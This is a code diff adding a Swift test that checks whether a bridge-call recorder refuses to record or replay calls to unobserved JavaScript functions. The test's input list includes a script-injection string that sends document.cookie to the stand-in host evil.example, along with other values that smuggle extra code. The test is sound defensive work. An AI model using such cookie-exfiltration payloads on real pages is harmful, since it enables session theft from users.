@@ -50,6 +50,30 @@ import Testing
         }
     }
 
+    /// A cassette repeats the calls of an app. A page must not put a script of its own there.
+    @Test func callsOfOtherFunctions_areNotRecorded() async throws {
+        let functions = [
+            "/*evil*/fetch('http://evil.example/?'+document.cookie);void", "window.eval", "eval", "window.bridge",
+            "window.bridge.a;alert", "window.bridge.", "window.bridges.register", "window.myApp.shared",
+        ]
+        try await withServer {
+            $0.observed = ["myApp.bridge"]
+        } _: { server, address in
+            let recorder = Recorder(server)
+            let (page, _) = try await PageClient.attachDevice(port: address.port)
+            let others = functions.map { ObservedEntry.Event.call(function: $0, arguments: ["alert(1)"]) }
+            let last = ObservedEntry.Event.call(function: "window.myApp.bridge.go", arguments: [1])
+            page.send(
+                PageClient.text(ObservedEntries((others + [last]).enumerated().map { ObservedEntry(seq: $0 + 1, $1) })))
+            _ = try await page.next("method", "page.ack")
+            let sources = recorder.records.compactMap {
+                if case .evaluate(_, let source) = $0.event { source } else { nil }
+            }
+            #expect(sources == [#"window.bridge("alert(1)")"#, "window.myApp.bridge.go(1)"])
+            #expect(try await recorder.problem("invalidParams").text.contains("/*evil*/fetch("))
+        }
+    }
+
     @Test func saysWhatIsKnownOfTheDevice() async throws {
         try await withServer { server, address in
             let recorder = Recorder(server)
